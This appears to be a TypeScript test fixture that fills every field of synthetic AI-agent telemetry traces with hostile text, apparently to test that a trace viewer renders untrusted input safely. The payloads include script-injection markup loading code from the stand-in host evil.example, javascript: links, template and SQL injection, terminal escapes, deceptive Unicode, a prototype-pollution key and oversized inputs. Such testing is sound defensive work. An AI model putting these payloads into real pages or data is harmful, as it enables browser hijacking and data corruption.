// Traces of an attacker who wants to break a reader's page: one hostile text in every field that a sender can fill.
import { randomBytes } from 'node:crypto';
import { traceOf } from './otlp.ts';

const REMOTE = 'https://evil.example';
/** Code that leaves a visible trace if it is ever executed. */
const RUN = 'globalThis.owned=1,document.title=`owned`,alert(1)';

/**
 * Each is the name, model, tool, agent, session, user, tag, key, argument, result and thought of a trace of its own.
 */
export const NASTY: Readonly<Record<string, string>> = {
  markup: `evil.example </script><script src="${REMOTE}/x.js"></script><script>${RUN}</script><img src="${REMOTE}/a.png" onerror="${RUN}"><svg onload="${RUN}">`,
  frames: `evil.example <iframe src="${REMOTE}"></iframe><link rel=stylesheet href="${REMOTE}/x.css"><base href="${REMOTE}"><meta http-equiv=refresh content="0;url=${REMOTE}">`,
  attributes: `evil.example "><b onmouseover="${RUN}" autofocus onfocus="${RUN}" style="position:fixed;inset:0;background:url(${REMOTE}/b.png)">`,
  markdown: `evil.example ![image](${REMOTE}/c.png) [link](javascript:${RUN}) <${REMOTE}> [x]: ${REMOTE}/d.png\n\`\`\`html\n<img src=${REMOTE}/e.png>`,
  templates: `evil.example {{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %> %s %n $& $1 '; DROP TABLE spans; --`,
  invisible:
    'evil.example \u202Egnp.exe\u202C \u2066hid\u2069 zero\u200Bwidth\u200D \uFEFF\u00AD\u2028 \u{E0041}\u{E0042} \u061C\u200F',
  terminal:
    'evil.example \u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007 \u0000\u0008\u0007\r\n\u009B2J',
  unicode: `evil.example \uD800 lone \uDC00 \uFFFD ${'e' + '\u0301\u0353\u0489'.repeat(60)} 👩‍👩‍👧‍👦 ﷽ ${'𒐫'.repeat(40)}`,
  prototype: '__proto__',
  wide: `evil.example${'W'.repeat(3000)}`,
  url: `../../evil.example/?q=%00%2e%2e/#/<>'"&;\\`,
};

interface Parts {
  text: string;
  thought: string;
  /** JSON of the arguments. */
  given: string;
  result: string;
}

const message = (role: string, parts: string[]) => `[{"role":"${role}","parts":[${parts.join(',')}]}]`;
const part = (type: string, content: string) => JSON.stringify({ type, content });

/** A trace of one model call and the run of the tool it called. */
function run(nasty: string, { text, thought, given, result }: Parts) {
  const traceId = randomBytes(16).toString('hex');
  const who = {
    'gen_ai.agent.name': nasty,
    'session.id': nasty,
    'user.id': nasty,
    'subtext.tags': [nasty],
    'deployment.environment.name': nasty,
    [`subtext.metadata.${nasty}`]: nasty,
    [nasty]: nasty,
  };
  const name = JSON.stringify(nasty);
  const call = traceOf({
    name: nasty,
    attributes: {
      ...who,
      'gen_ai.operation.name': 'chat',
      'gen_ai.provider.name': nasty,
      'gen_ai.request.model': nasty,
      'gen_ai.response.model': nasty,
      'gen_ai.request.reasoning.level': nasty,
      'gen_ai.system_instructions': JSON.stringify([{ type: 'text', content: text }]),
      'gen_ai.tool.definitions': JSON.stringify([{ type: 'function', name: nasty, description: nasty }]),
      'gen_ai.input.messages': message('user', [part('text', text)]),
      'gen_ai.output.messages': message('assistant', [
        part('reasoning', thought),
        part('text', text),
        `{"type":"tool_call","id":${name},"name":${name},"arguments":${given}}`,
      ]),
      'gen_ai.usage.input_tokens': 1000,
      'gen_ai.usage.output_tokens': 2000,
    },
  });
  const tool = traceOf({
    name: nasty,
    attributes: {
      ...who,
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': nasty,
      'gen_ai.tool.call.id': nasty,
      'gen_ai.tool.call.arguments': given,
      'gen_ai.tool.call.result': result,
      'error.type': nasty,
    },
  });
  const spans = [call, tool].flatMap(({ body }) => body.resourceSpans.flatMap((one) => one.scopeSpans[0]!.spans));
  for (const span of spans) span.traceId = traceId;
  return { traceId, body: { resourceSpans: [{ scopeSpans: [{ spans }] }] } };
}

/** The same text everywhere. */
export function nastyTrace(nasty: string) {
  const given = JSON.stringify({ [nasty]: [nasty, { ['__proto__']: nasty, constructor: nasty }] });
  return run(nasty, { text: nasty, thought: nasty, given, result: JSON.stringify({ [nasty]: nasty }) });
}

const DEPTH = 400;

/** Five million characters in thought, argument, result and answer, and arguments eight hundred levels deep. */
export function hugeTrace() {
  const text = 'evil.example <b>x</b> \u202E'.padEnd(5_000_000, 'spam and eggs ');
  const deep = `${'{"a":['.repeat(DEPTH)}1${']}'.repeat(DEPTH)}`;
  const given = `{"text":${JSON.stringify(text)},"deep":${deep}}`;
  return run('evil.example huge', { text, thought: text, given, result: given });
}

/** Has no span id, so it is quarantined with all its contents. */
export function brokenTrace(nasty: string) {
  const { traceId, body } = nastyTrace(nasty);
  for (const span of body.resourceSpans[0]!.scopeSpans[0]!.spans) span.spanId = '';
  return { traceId, body };
}
